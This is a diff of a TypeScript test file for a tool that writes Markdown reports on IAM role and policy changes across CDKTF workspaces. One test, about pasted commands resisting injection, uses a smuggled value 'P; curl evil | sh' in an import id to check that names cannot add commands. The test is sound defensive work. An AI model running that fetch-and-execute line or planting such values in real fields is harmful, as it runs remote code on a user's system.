@@ -1,5 +1,5 @@
 import { type Outcome, reportMarkdown, TEXTS } from "../../../modules/review/markdown";
-import type { Move, WorkspaceReport } from "../../../modules/review/report";
+import type { PolicyMove, SettingChange, WorkspaceReport } from "../../../modules/review/report";
 import { json, reviewed, roles, S3_READ, type Stack } from "../outputs";
 
 // What stands where, how often, and how it is cut and escaped. Sentences come from the catalogue, which has its own test.
@@ -7,7 +7,7 @@ import { json, reviewed, roles, S3_READ, type Stack } from "../outputs";
 const shown = (before: Readonly<Record<string, Stack>>, after: Readonly<Record<string, Stack>>) =>
   reportMarkdown(reviewed(before, after));
 const inAll = (access: "broader" | "narrower" | "not determined", count: number, outcome: Outcome) =>
-  TEXTS.accessChange({ access, changes: TEXTS.rolesInAll({ count, outcome }) });
+  TEXTS.accessChange({ access, changes: TEXTS.roles({ count, outcome }) });
 
 describe("no change in access", () => {
   test("is one line if the other differences don't affect access", () => {
@@ -33,7 +33,7 @@ describe("a thousand roles", () => {
 
   test("are counted, and the first ten are named, with a hint where the others are", () => {
     expect(text.split("\n")[0]).toBe(inAll("broader", 1000, "gainsAccess"));
-    expect(text).toContain(`\`Role-1008\`, \`Role-1009\`, ${TEXTS.more({ count: 990 })}. `);
+    expect(text).toContain(`\`Role-1008\`, \`Role-1009\`, 990 more. `);
     expect(text).not.toContain("Role-1010");
     expect(text.split("\n").length).toBeLessThan(20);
   });
@@ -42,10 +42,9 @@ describe("a thousand roles", () => {
     const stacks = Object.fromEntries(many.map((role) => [role.toLowerCase(), roles([role])]));
     const all = shown({}, stacks);
     expect(all.length).toBeLessThan(65_536);
-    expect(all).toContain(`| ${TEXTS.cut({ count: 950, what: "workspace" })} |`);
     const [, left = ""] = /\n\n…and ([\d,]+) more paragraphs/.exec(all) ?? [];
     const count = Number(left.replace(",", ""));
-    expect(count + (all.match(/^### Workspace/gm) ?? []).length).toBeGreaterThan(1000);
+    expect(count + (all.match(/^### New workspace/gm) ?? []).length).toBeGreaterThan(1000);
     expect(all).toContain(`\n\n${TEXTS.cut({ count, what: "paragraph" })}\n\n<sub>`);
   });
 
@@ -102,7 +101,7 @@ describe("what changes for roles", () => {
   ])("is said of a group as %s, and in the headline of all groups together", (outcome, before, after, access, all) => {
     const lines = title(before, after);
     expect(lines[0]).toBe(inAll(access, 1, all));
-    const group = TEXTS.rolesOfGroup({ count: 1, outcome, doubt: "none" });
+    const group = TEXTS.roles({ count: 1, outcome });
     const change = TEXTS.changedPolicies({ count: 1, policies: "`P`", change: "changed" });
     expect(lines[4]).toBe(`**${group}:** \`R\`. ${change}`);
   });
@@ -120,9 +119,9 @@ describe("what changes for roles", () => {
     });
     const text = shown(two([read], [read, write]), two([read, write], [read]));
     const outcomes: readonly Outcome[] = ["gainsPermissions", "losesPermissions"];
-    const changes = outcomes.map((outcome) => TEXTS.rolesInAll({ count: 1, outcome })).join("; ");
+    const changes = outcomes.map((outcome) => TEXTS.roles({ count: 1, outcome })).join("; ");
     expect(text.split("\n")[0]).toBe(TEXTS.accessChange({ access: "broader", changes }));
-    const group = (outcome: Outcome) => `**${TEXTS.rolesOfGroup({ count: 1, outcome, doubt: "none" })}:**`;
+    const group = (outcome: Outcome) => `**${TEXTS.roles({ count: 1, outcome })}:**`;
     expect(text).toContain(`${group("gainsPermissions")} \`A\`.`);
     expect(text).toContain(`${group("losesPermissions")} \`B\`.`);
     expect(shown(two([read], []), two([], []))).toContain(
@@ -130,12 +129,10 @@ describe("what changes for roles", () => {
     );
   });
 
-  test("lists what an action is allowed on before and after together, and counts what stays", () => {
+  test("lists what an action is allowed on before and after together", () => {
     const [wide, narrow] = [S3_READ, { ...S3_READ, Resource: "arn:aws:s3:::b" }];
     const text = shown(stack(json(wide, write)), stack(json(narrow, write)));
-    expect(text).toContain(
-      `\`\`\`diff\n- s3:GetObject on *\n+ s3:GetObject on arn:aws:s3:::b\n\`\`\`\n\n${TEXTS.keptPermissions({ kept: 1, roles: 1 })}\n`,
-    );
+    expect(text).toContain(`\`\`\`diff\n- s3:GetObject on *\n+ s3:GetObject on arn:aws:s3:::b\n\`\`\`\n`);
   });
 
   test("is broader, and not undetermined, if a part of it is known", () => {
@@ -143,19 +140,17 @@ describe("what changes for roles", () => {
     const unread = { ...read, Principal: "a" };
     expect(title(denied, [read, unread])[0]).toBe(inAll("broader", 1, "mayGetOtherPermissions"));
     expect(title(denied, [read, unread])[4]).toContain(
-      TEXTS.rolesOfGroup({ count: 1, outcome: "mayGetOtherPermissions", doubt: "some" }),
+      TEXTS.roles({ count: 1, outcome: "mayGetOtherPermissions", isDoubtful: true }),
     );
   });
 
-  test("says that access could not be determined, and which differences it depends on", () => {
+  test("says that access could not be determined, and what it depends on", () => {
     const unknown = roles(["R"], "${var.p}", { variable: { p: { default: "a" } } });
     const text = shown({ s: unknown }, { s: { ...unknown, variable: { p: { default: "b", type: "string" } } } });
     expect(text.split("\n")[0]).toBe(inAll("not determined", 1, "mayGetOtherPermissions"));
-    expect(text).toContain(TEXTS.rolesOfGroup({ count: 1, outcome: "mayGetOtherPermissions", doubt: "all" }));
+    expect(text).toContain(TEXTS.roles({ count: 1, outcome: "mayGetOtherPermissions", isDoubtful: true }));
     const doubt = text.split("\n").find((line) => line.startsWith("- ") && line.includes("`var.p`")) ?? "";
-    expect(doubt.match(/`[^`]+`/g)).toEqual(
-      ["var.p", "default", "var.p", '"a"', '"b"', "type", "var.p", '"string"'].map((value) => `\`${value}\``),
-    );
+    expect(doubt.match(/`[^`]+`/g)).toEqual(["`var.p`"]);
   });
 });
 
@@ -171,14 +166,14 @@ describe("what a person has to do by hand", () => {
   test("destroy the stack of a removed workspace, or of one that changes to another account", () => {
     const text = shown({ s: roles(["R"]), t: {} }, { t: {} });
     expect(text.split("\n")[0]).toBe(inAll("narrower", 1, "losesAccessByHand"));
-    const stack = { workspace: "`s`", command: "`npx cdktf destroy s`", onlyPolicies: true };
-    expect(text).toContain(`\n- ${TEXTS.destroyRemoved(stack)}\n`);
+    const stack = { workspace: "`s`", command: "`npx cdktf destroy s`" };
+    expect(text).toContain(`\n- ${TEXTS.destroy(stack)}\n`);
     expect(
       steps(
         { s: roles(["R"], json(S3_READ), provider("111111111111")) },
         { s: roles(["R"], json(S3_READ), provider("222222222222")) },
       ),
-    ).toEqual([TEXTS.destroyOfOtherAccount({ ...stack, account: "`111111111111`" })]);
+    ).toEqual([TEXTS.destroy({ ...stack, account: "`111111111111`" })]);
   });
 
   test("nothing if another account is also allowed, or if the provider manages no policy", () => {
@@ -200,7 +195,7 @@ describe("what a person has to do by hand", () => {
   test("paste a command, in which names can't add commands of their own", () => {
     const stack = { ...roles(["A"]), import: [{ to: "aws_iam_role_policy.A", id: "A:P; curl evil | sh" }] };
     expect(steps({ s: {} }, { s: stack })).toEqual([
-      TEXTS.checkAdopted({ workspace: "`s`", count: 1, commands: "`P; curl evil | sh`" }),
+      TEXTS.checkAdopted({ workspace: "`s`", policies: "`P; curl evil | sh` of `A`" }),
     ]);
     expect(steps({ "s; x": roles(["A"]) }, {})).toEqual([expect.stringContaining("`npx cdktf destroy STACK`")]);
   });
@@ -225,11 +220,20 @@ describe("what a person has to do by hand", () => {
       resource: { aws_iam_role_policy: { a: { name, role: "R", policy: json(S3_READ) } } },
     });
     expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("P") })).toEqual([
-      TEXTS.deployInOrder({ who: "`R`", before: "`P`", after: "`P`", from: "`s`", to: "`t`" }),
+      TEXTS.deployInOrder({ who: "`R`", policy: "`P`", from: "`s`", to: "`t`" }),
     ]);
-    expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("Q") })).toEqual([
-      TEXTS.deployInOrder({ who: "`R`", before: "`P`", after: "`Q`", from: "`s`", to: "`t`" }),
+    expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("Q") })).toEqual([]);
+  });
+
+  test("keep the state of a removed workspace only where the other has none yet", () => {
+    const removed = { s: roles(["R"], json(S3_READ), state("s.tfstate")) };
+    const command = "`npx cdktf destroy s`";
+    const stack = { from: "`s`", to: "`t`", command };
+    const after = { t: roles(["R"], json(S3_READ), state("t.tfstate")) };
+    expect(steps(removed, after)).toEqual([
+      TEXTS.deployInPlaceOfRemoved({ ...stack, key: "`backend.local.path: s.tfstate`" }),
     ]);
+    expect(steps({ ...removed, t: {} }, after)).toContain(TEXTS.deployInPlaceOfRemoved(stack));
   });
 
   test("nothing if a workspace or roles are added or removed", () => {
@@ -239,65 +243,59 @@ describe("what a person has to do by hand", () => {
 
 describe("changes that grant no access", () => {
   const place = (policy: string, workspace = "w", address = "a.b") => ({ policy, address, workspace });
-  const two = { roles: [{ name: "A" }, { name: "B" }], before: place("P", "v"), after: place("Q", "w", "c.d") };
-  const who = "2 roles (`A`, `B`)";
-  const policies = { before: "`P`", after: "`Q`" };
-  const addresses = "`a.b` → `c.d`, for the first role";
-  const one = { roles: [{ name: "A" }], before: place("P") };
+  const two = { roles: [{ name: "A" }, { name: "B" }], before: [place("P")], after: [place("Q", "w", "c.d")] };
   const workspace: WorkspaceReport = {
     name: "w",
     presence: "kept",
-    onlyPolicies: true,
     access: "same",
     gains: [],
     loses: [],
     changes: [],
     unread: [],
+    settings: [],
     moves: [],
   };
-  const markdownOf = (moves: readonly Move[], more: Partial<WorkspaceReport> = {}) =>
+  const markdownOf = (more: Partial<WorkspaceReport>) =>
     reportMarkdown({
       access: "same",
       judged: "same",
       undecided: false,
       compared: { workspaces: 1, roles: 2 },
-      workspaces: [{ ...workspace, ...more, moves }],
+      workspaces: [{ ...workspace, ...more }],
     });
+  const who = "`A`, `B`";
 
-  test.each<[Move, string]>([
-    [{ kind: "unverified", roles: two.roles }, TEXTS.verificationOff({ who })],
-    [{ kind: "replaced", ...two }, TEXTS.replaced({ who, ...policies, addresses })],
-    [{ kind: "replaced", ...two, after: place("Q") }, TEXTS.replaced({ who, ...policies })],
+  test.each<[string, PolicyMove, string]>([
+    ["a renamed policy", two, TEXTS.replaced({ who, before: "`P`", after: "`Q`" })],
     [
-      { kind: "replaced", ...two, roles: one.roles },
-      TEXTS.replaced({ who: "`A`", ...policies, addresses: "`a.b` → `c.d`" }),
-    ],
-    [{ kind: "moved", ...two }, TEXTS.moved({ who, ...policies, workspace: "`v`" })],
-    [{ kind: "moved", ...two, after: place("P") }, TEXTS.moved({ who, before: "`P`", after: "`P`", workspace: "`v`" })],
-    [{ kind: "also", roles: one.roles, after: place("P") }, TEXTS.also({ who: "`A`", policy: "`P`" })],
-    [{ kind: "fewer", ...one }, TEXTS.fewer({ who: "`A`", policy: "`P`" })],
-    [{ kind: "forgotten", ...one }, TEXTS.forgotten({ who: "`A`", policy: "`P`" })],
-    [
-      { kind: "setting", of: "provider", name: "allowed_account_ids", before: "1" },
-      `${TEXTS.providerSettings({ changes: "`allowed_account_ids` `1` → (none)" })}\n- ${TEXTS.accountCheckRemoved()}`,
+      "another address",
+      { ...two, after: [place("P", "w", "c.d")] },
+      TEXTS.replaced({ who, before: "`P`", after: "`P`", addresses: ["`a.b`", "`c.d`"] }),
     ],
     [
-      { kind: "setting", of: "provider", name: "profile", after: "p" },
-      TEXTS.providerSettings({ changes: "`profile` (none) → `p`" }),
+      "another workspace",
+      { ...two, before: [place("P", "v"), place("O", "v")] },
+      TEXTS.replaced({
+        who,
+        before: "`P` of workspace `v`, `O` of workspace `v`",
+        after: "`Q` of workspace `w`",
+      }),
     ],
-    [
-      { kind: "setting", of: "state", name: "encrypt", before: "true" },
-      TEXTS.stateSettings({ changes: "`encrypt` `true` → (none)" }),
-    ],
-  ])("%j has its line", (move, line) => {
-    expect(markdownOf([move])).toContain(`\n${TEXTS.movesTitle()}\n\n- ${line}\n`);
+    ["a policy that Terraform forgets", { ...two, after: [] }, TEXTS.forgotten({ who, policy: "`P`" })],
+  ])("%s has its line", (_what, move, line) => {
+    expect(markdownOf({ moves: [move] })).toContain(`\n\n- ${line}\n\n`);
+  });
+
+  test.each<[SettingChange, string]>([
+    [{ name: "provider.aws.allowed_account_ids", before: "1" }, "`provider.aws.allowed_account_ids`: `1` → (none)"],
+    [{ name: "verification", before: "on", after: "off" }, "`verification`: `on` → `off`"],
+  ])("%j has its line", (setting, line) => {
+    expect(markdownOf({ settings: [setting] })).toContain(`\n${TEXTS.settingsTitle()}\n\n- ${line}\n`);
   });
 
   test("need no step if a setting of the provider has the name of a state's location, or a removed stack grants nothing", () => {
-    expect(markdownOf([{ kind: "setting", of: "provider", name: "path", after: "a" }])).not.toContain(
-      TEXTS.stepsTitle(),
-    );
-    expect(markdownOf([], { presence: "gone" })).not.toContain(TEXTS.stepsTitle());
+    expect(markdownOf({ settings: [{ name: "provider.aws.path", after: "a" }] })).not.toContain(TEXTS.stepsTitle());
+    expect(markdownOf({ presence: "gone" })).not.toContain(TEXTS.stepsTitle());
   });
 });
 
@@ -320,12 +318,6 @@ describe("text of a stack stays text", () => {
     expect(prose).not.toMatch(/bold|@team|<img|link|heading/);
     expect(text).not.toMatch(/\p{Cf}|(?!\n)\p{Cc}/u);
     expect(text.match(/^#+ /gm)).toEqual(["### "]);
-  });
-
-  test("in a cell of the table, which a bar would end", () => {
-    const provider = { provider: { aws: [{ region: "eu|west" }] } };
-    const text = shown({}, { a: { ...roles(["R"]), ...provider }, b: { ...roles(["R"]), ...provider } });
-    expect(text).toContain("| `a` |  | `eu\\u007cwest` | 1 | – | – | **broader** |");
   });
 
   test("is cut if it is long", () => {
